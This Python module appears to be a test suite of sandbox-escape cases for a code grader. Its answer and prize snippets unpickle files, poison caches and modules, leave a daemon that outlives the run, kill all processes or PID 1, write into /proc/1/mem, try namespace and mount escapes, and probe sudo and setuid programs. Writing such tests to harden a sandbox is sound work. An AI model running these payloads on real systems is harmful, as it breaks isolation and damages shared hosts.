"""Answers that try to leave something behind, break out of the jail, or reach their neighbours."""

from __future__ import annotations

from ..attack import Attack, answer, prize

# Leaves a note wherever it may write; `found` looks for it in the next worker.
_NOTE = """
def places():
    import os, site, sys, tempfile
    from pathlib import Path
    hidden = [Path(p) / n for p in sys.path for n in ("diffusers", "transformers", "pytest")]
    names = ("TRITON_CACHE_DIR", "TORCHINDUCTOR_CACHE_DIR", "HF_HOME", "MPLCONFIGDIR", "HOME")
    caches = [Path(os.environ[n]) for n in names if n in os.environ]
    roots = ("/", "/dev", "/dev/shm", "/tmp", "/var/tmp", "/run", "/etc", "/course", "/usr", "/mnt")
    return [*map(Path, roots), *hidden, *caches, Path.cwd(), Path(tempfile.gettempdir())]
"""
_LEAVE = (
    _NOTE
    + """
for place in places():
    try:
        place.mkdir(parents=True, exist_ok=True)
        (place / "note_@MARKER@").write_text("right")
    except OSError:
        pass

def strided_timesteps(start=990, stride=30):
    return []
"""
)

ATTACKS = (
    Attack(
        "pickle-reduce",
        "a1_4_timesteps",
        "Returns an object whose __reduce__ writes a file where it is unpickled.",
        answer("""
        class Right(list):
            def __reduce__(self):
                return (open, ("@CANARY@/pickled_@MARKER@", "w"))

        def strided_timesteps(start=990, stride=30):
            return Right([Right()])
        """),
    ),
    Attack(
        "object-array",
        "a1_2_classical",
        "Returns a NumPy array of objects, which can only be sent as a pickle.",
        answer("""
        class Evil:
            def __reduce__(self):
                return (open, ("@CANARY@/pickled_@MARKER@", "w"))

        def classical_denoise(im_noisy, kernel_size=5, sigma=2.0):
            return np.array([Evil()] * 4, dtype=object)
        """),
    ),
    Attack(
        "torch-load",
        "a1_2_classical",
        "Saves a tensor file with code in it and returns its path, in case the grader loads it.",
        answer("""
        import pickle

        class Evil:
            def __reduce__(self):
                return (open, ("@CANARY@/loaded_@MARKER@", "w"))

        def classical_denoise(im_noisy, kernel_size=5, sigma=2.0):
            with open("/tmp/answer_@MARKER@.pt", "wb") as file:
                pickle.dump(Evil(), file)
            return "/tmp/answer_@MARKER@.pt"
        """),
        stopped_by="strict",
    ),
    Attack(
        "notes-for-the-next",
        "a1_4_timesteps",
        "Leaves notes in every place that it may write, for the next worker to find.",
        answer(_NOTE)
        + prize("""
        return any((place / "note_@MARKER@").exists() for place in places())
        """),
        accomplice=answer(_LEAVE),
        stopped_by="strict",
        harms="writes into the host's system folders",
    ),
    Attack(
        "caches-poisoned",
        "a1_4_timesteps",
        "Leaves compiled kernels and hub files in the caches for the next worker.",
        prize("""
        import os
        names = ("TRITON_CACHE_DIR", "TORCHINDUCTOR_CACHE_DIR", "HF_HOME")
        return any(os.path.exists(os.environ[n] + "/kernel_@MARKER@") for n in names)
        """),
        accomplice=answer("""
        import os

        for name in ("TRITON_CACHE_DIR", "TORCHINDUCTOR_CACHE_DIR", "HF_HOME"):
            os.makedirs(os.environ[name], exist_ok=True)
            open(os.environ[name] + "/kernel_@MARKER@", "w").close()
        """),
        stopped_by="strict",
    ),
    Attack(
        "modules-poisoned",
        "a1_4_timesteps",
        "Changes torch, builtins and the worker's modules for whoever comes next.",
        prize("""
        import builtins, sys
        return hasattr(torch, "left") or hasattr(builtins, "left") or "left" in sys.modules
        """),
        accomplice=answer("""
        import builtins, sys

        torch.left = builtins.left = sys.modules["left"] = True
        torch.Tensor.sqrt = lambda self: self
        """),
    ),
    Attack(
        "shared-memory-note",
        "a1_4_timesteps",
        "Leaves a System V shared memory segment with a note for the next worker.",
        prize("""
        import ctypes
        libc = ctypes.CDLL(None)
        return libc.shmget(0x1D47, 4096, 0) >= 0
        """),
        accomplice=answer("""
        import ctypes

        ctypes.CDLL(None).shmget(0x1D47, 4096, 0o1666)
        """),
        stopped_by="strict",
        harms="leaves a shared memory segment on the host",
    ),
    Attack(
        "socket-daemon",
        "a1_4_timesteps",
        "Leaves a daemon on an abstract socket, which tells the next worker the answer.",
        prize("""
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.connect("\\0@MARKER@")
        return True
        """),
        accomplice=answer("""
        import ctypes, os, socket, time

        listener = socket.socket(socket.AF_UNIX)
        listener.bind("\\0@MARKER@")
        listener.listen()
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"@MARKER@")
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
        """),
        stopped_by="strict",
    ),
    Attack(
        "pip-install",
        "a1_4_timesteps",
        "Installs a package of its own making with pip into Python's environment.",
        prize("""
        import subprocess, sys
        from pathlib import Path
        folder = Path("/tmp/package_@MARKER@")
        folder.mkdir(exist_ok=True)
        (folder / "setup.py").write_text("from setuptools import setup\\nsetup(name='m')\\n")
        done = subprocess.run([sys.executable, "-m", "pip", "install", "--no-index", "--no-deps",
                               "--no-build-isolation", str(folder)], capture_output=True)
        return done.returncode == 0
        """),
        stopped_by="strict",
        harms="installs a package into Python's environment",
        slow=True,
    ),
    Attack(
        "kernel-settings",
        "a1_4_timesteps",
        "Opens the kernel's settings for writing, such as the handler of crashes.",
        prize("""
        import os
        names = ("kernel/core_pattern", "kernel/hostname", "vm/drop_caches", "kernel/modprobe")
        for name in (*names, "kernel/panic", "vm/overcommit_memory"):
            try:
                os.close(os.open(f"/proc/sys/{name}", os.O_WRONLY))
                return True
            except OSError:
                pass
        return False
        """),
        stopped_by="strict",
    ),
    Attack(
        "new-user-namespace",
        "a1_4_timesteps",
        "Makes a user namespace of its own to become root and mount a disk without a limit.",
        prize("""
        import ctypes
        libc = ctypes.CDLL(None)
        if libc.unshare(0x10000000 | 0x00020000) != 0:
            return False
        return libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=90%") == 0
        """),
        stopped_by="strict",
    ),
    Attack(
        "mounts-and-roots",
        "a1_4_timesteps",
        "Remounts the system writable, changes the root and regains its capabilities.",
        prize("""
        import ctypes, os
        libc = ctypes.CDLL(None)
        if libc.mount(b"none", b"/usr", None, 32 | 4096, None) == 0:
            return True
        if libc.unshare(0x00020000) == 0 or libc.syscall(155, b"/tmp", b"/tmp") == 0:
            return True
        try:
            os.chroot("/tmp")
            return True
        except OSError:
            return False
        """),
        stopped_by="strict",
        harms="would remount the host's system",
    ),
    Attack(
        "signals-to-everyone",
        "a1_4_timesteps",
        "Kills every process that it may send a signal to.",
        answer("""
        import os

        def strided_timesteps(start=990, stride=30):
            os.kill(-1, 9)
            return []
        """),
        stopped_by="strict",
        harms="kills every process of the user",
    ),
    Attack(
        "kills-its-parents",
        "a1_4_timesteps",
        "Kills and stops its parent and the first process, then answers wrongly.",
        answer("""
        import os, signal

        def strided_timesteps(start=990, stride=30):
            for pid in (1, os.getppid()):
                for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass
            return []
        """),
        stopped_by="strict",
        harms="kills the fork server",
    ),
    Attack(
        "parents-memory",
        "a1_4_timesteps",
        "Writes into the memory of the first process of its namespace, to run code outside.",
        answer("""
        import os

        def strided_timesteps(start=990, stride=30):
            for line in open("/proc/1/maps"):
                span, rights = line.split()[:2]
                if "r" in rights and "[v" not in line:
                    try:
                        with open("/proc/1/mem", "r+b", buffering=0) as memory:
                            memory.seek(int(span.split("-")[0], 16))
                            memory.write(b"\\xcc" * 64)
                    except OSError:
                        pass
            return []
        """),
        stopped_by="strict",
        harms="writes into another process",
    ),
    Attack(
        "setuid-programs",
        "a1_4_timesteps",
        "Runs set-user-id programs and sudo to become another user.",
        prize("""
        import os, shutil, subprocess
        if os.getuid() == 0:
            return False  # nothing to gain
        for command in (["sudo", "-n", "true"], ["pkexec", "true"], ["su", "-c", "true"]):
            if shutil.which(command[0]):
                done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True)
                if done.returncode == 0:
                    return True
        return False
        """),
    ),
)
